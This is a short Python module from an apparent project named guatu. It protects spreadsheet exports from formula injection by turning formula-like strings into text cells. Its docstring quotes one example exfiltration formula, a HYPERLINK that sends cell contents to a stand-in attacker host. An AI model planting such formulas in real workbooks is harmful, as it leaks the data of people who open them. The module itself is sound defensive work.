"""Cells that stay what they say: text that looks like a formula is written as text.

A blocker described as ``=HYPERLINK("http://evil.example/?"&A1,"详情")`` or a
note starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return must
not become a live formula in the workbooks guatu writes (OWASP's CSV/formula
injection guidance). Every workbook writer passes its rows through ``safe_row``;
the cell keeps the exact text, so an export read back compares equal.
"""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell

__all__ = ["FORMULA_TRIGGERS", "safe_row", "safe_value"]

#: What a spreadsheet program may read as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_value(sheet, value: Any) -> Any:
    """Return *value*, or a text cell holding it when it could be read as a formula."""
    if isinstance(value, Cell):
        if isinstance(value.value, str) and value.value.startswith(FORMULA_TRIGGERS):
            value.data_type = "s"
        return value
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        cell = WriteOnlyCell(sheet, value=value)
        cell.data_type = "s"
        return cell
    return value


def safe_row(sheet, values: Iterable[Any]) -> list[Any]:
    """The row with every formula-like text made a text cell (see ``safe_value``)."""
    return [safe_value(sheet, value) for value in values]
